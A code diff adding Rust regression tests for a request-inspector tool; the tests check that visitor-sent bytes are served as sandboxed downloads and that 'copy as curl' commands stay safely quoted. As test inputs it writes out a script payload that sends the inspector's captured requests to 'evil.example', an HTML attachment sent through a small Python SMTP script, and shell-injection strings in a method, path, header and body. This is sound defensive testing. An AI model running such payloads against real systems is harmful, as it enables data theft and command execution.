@@ -723,3 +723,206 @@ async fn a_tcp_connection_shows_with_its_byte_counts() {
     .await;
     c.stop().await;
 }
+
+/// The headers and bytes the inspector serves at `path`.
+async fn fetched(inspector: SocketAddr, path: &str) -> (http::HeaderMap, bytes::Bytes) {
+    let response = send(
+        inspector,
+        Request::get(path)
+            .header("host", "127.0.0.1")
+            .body(empty())
+            .unwrap(),
+    )
+    .await;
+    assert_eq!(response.status(), 200, "{path}");
+    let headers = response.headers().clone();
+    (
+        headers,
+        response.into_body().collect().await.unwrap().to_bytes(),
+    )
+}
+
+/// What a visitor sent, served back: a download that runs nothing.
+fn assert_served_as_a_download(headers: &http::HeaderMap, what: &str) {
+    let disposition = headers["content-disposition"].to_str().unwrap();
+    assert!(
+        disposition.starts_with("attachment; filename=\""),
+        "{what}: {disposition}"
+    );
+    let name = disposition
+        .trim_start_matches("attachment; filename=\"")
+        .trim_end_matches('"');
+    assert!(
+        name.bytes()
+            .all(|b| b.is_ascii_alphanumeric() || b"._-".contains(&b)),
+        "{what}: {name:?}"
+    );
+    assert_eq!(headers["x-content-type-options"], "nosniff", "{what}");
+    assert_eq!(
+        headers["content-security-policy"], "default-src 'none'; sandbox",
+        "{what}"
+    );
+}
+
+#[tokio::test]
+async fn bytes_a_visitor_sent_are_served_as_downloads_that_run_nothing() {
+    let app = origin("app").await;
+    let srv = mail_server(None).await;
+    let mut tunnel = spec(None, &app.target);
+    tunnel.mail.path = Some("/inbound".into());
+    let (c, inspector) = inspected(&srv, tunnel, InspectorOptions::default()).await;
+    // The attack: a page posted through the tunnel, then opened at the
+    // inspector's origin by any page the developer visits.
+    let script = "<script>fetch('/api/requests').then(r=>r.text()).then(t=>fetch('http://evil.example/?'+t))</script>";
+    let request = Request::post("/echo")
+        .header("host", c.host())
+        .header("content-type", "text/html")
+        .body(full(script))
+        .unwrap();
+    assert_eq!(send(srv.http, request).await.status(), 200);
+    let id = listed(inspector, "", 1).await[0]["id"].clone();
+    for which in ["request", "response"] {
+        let (headers, body) = fetched(inspector, &format!("/api/requests/{id}/{which}/body")).await;
+        assert_served_as_a_download(&headers, which);
+        assert_eq!(&body[..], script.as_bytes(), "the bytes are the same");
+    }
+
+    // An attachment whose name holds a control character: before, it lost
+    // its Content-Disposition and was shown inline.
+    const MAIL: &str = r#"
+import smtplib, sys
+from email.message import EmailMessage
+m = EmailMessage()
+m['From'] = 'eve@example.com'
+m['To'] = sys.argv[3]
+m['Subject'] = 'invoice'
+m.set_content('see attached')
+m.add_attachment(b'<script>alert(1)</script>', maintype='text', subtype='html', filename='invoice\x01.html')
+with smtplib.SMTP(sys.argv[1], int(sys.argv[2]), timeout=30) as s:
+    s.send_message(m)
+print('SENT')
+"#;
+    let smtp = srv.smtp.unwrap();
+    let to = format!("billing@{}", c.host());
+    let (ok, out, err) = python(
+        MAIL,
+        &[&smtp.ip().to_string(), &smtp.port().to_string(), &to],
+    )
+    .await;
+    assert!(ok && out.trim() == "SENT", "{out} {err}");
+    let mail = listed(inspector, "kind=mail", 1).await[0]["id"].clone();
+    let (_, detail) = call(inspector, "GET", &format!("/api/requests/{mail}"), None).await;
+    let download = detail["mail"]["attachments"][0]["download"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    let (headers, body) = fetched(inspector, &download).await;
+    assert_served_as_a_download(&headers, "attachment");
+    assert_eq!(&body[..], b"<script>alert(1)</script>");
+
+    // The page itself runs only its own script.
+    let (headers, _) = fetched(inspector, "/").await;
+    let policy = headers["content-security-policy"].to_str().unwrap();
+    assert!(
+        policy.starts_with("default-src 'none'; script-src 'sha256-"),
+        "{policy}"
+    );
+    assert!(!policy.contains("unsafe-eval"), "{policy}");
+    assert_eq!(headers["x-content-type-options"], "nosniff");
+    c.stop().await;
+}
+
+#[tokio::test]
+async fn copy_as_curl_runs_curl_and_nothing_else_whatever_the_visitor_sent() {
+    let app = origin("app").await;
+    let srv = server().await;
+    let (c, inspector) =
+        inspected(&srv, spec(None, &app.target), InspectorOptions::default()).await;
+    let host = c.host();
+    // Each part would run a command if pasted unquoted: the method is a
+    // valid HTTP token (hyper takes `|` and backticks in one).
+    let method = "X|tee`echo`pwned1";
+    let path = "/echo?a=$(touch${IFS}pwned2)&b=`touch${IFS}pwned3`";
+    let header = "x-evil: '; touch pwned4; echo '";
+    let texts: [&[u8]; 2] = [
+        b"'$(touch pwned5)'\n`touch pwned6`;|&",
+        b"bin\x00ary'\xff$(touch pwned7)",
+    ];
+    for body in texts {
+        let head = format!(
+            "{method} {path} HTTP/1.1\r\nHost: {host}\r\n{header}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
+            body.len()
+        );
+        let mut request = head.into_bytes();
+        request.extend_from_slice(body);
+        let answer = raw(srv.http, &request).await;
+        assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
+    }
+    let items = listed(inspector, "", 2).await;
+    let dir = tempfile::tempdir().unwrap();
+    for item in items {
+        let (_, detail) = call(
+            inspector,
+            "GET",
+            &format!("/api/requests/{}", item["id"]),
+            None,
+        )
+        .await;
+        let command = detail["curl"].as_str().unwrap();
+        let syntax = std::process::Command::new("bash")
+            .args(["-n", "-c", command])
+            .output()
+            .unwrap();
+        assert!(
+            syntax.status.success(),
+            "{command}: {}",
+            String::from_utf8_lossy(&syntax.stderr)
+        );
+        // A stand-in for curl prints each argument it got, and the body
+        // it read from its standard input (for `@-`), as hex.
+        let fake = "curl() { for a in \"$@\"; do printf '<%s>\\n' \"$a\"; \
+                    if [ \"$a\" = @- ]; then od -An -tx1 | tr -d ' \\n'; echo; fi; done; }";
+        let out = std::process::Command::new("sh")
+            .arg("-c")
+            .arg(format!("{fake}\n{command}"))
+            .current_dir(dir.path())
+            .output()
+            .unwrap();
+        assert!(
+            out.status.success(),
+            "{command}: {}",
+            String::from_utf8_lossy(&out.stderr)
+        );
+        let printed = String::from_utf8(out.stdout).unwrap();
+        let lines: Vec<&str> = printed.lines().collect();
+        assert_eq!(
+            lines[..4],
+            [
+                "<-X>",
+                &format!("<{method}>"),
+                &format!("<http://{host}{path}>"),
+                "<-H>"
+            ],
+            "{printed}"
+        );
+        assert!(
+            lines.contains(&"<x-evil: '; touch pwned4; echo '>"),
+            "{printed}"
+        );
+        let body = body_bytes(&detail["request"]);
+        if let Ok(text) = std::str::from_utf8(&body)
+            && !text.contains('\0')
+        {
+            assert!(
+                printed.contains(&format!("<--data-binary>\n<{text}>")),
+                "{printed}"
+            );
+        } else {
+            let hex: String = body.iter().map(|b| format!("{b:02x}")).collect();
+            assert_eq!(lines[lines.len() - 1], hex, "{printed}");
+        }
+    }
+    let left: Vec<_> = std::fs::read_dir(dir.path()).unwrap().collect();
+    assert!(left.is_empty(), "a pasted command ran something: {left:?}");
+    c.stop().await;
+}
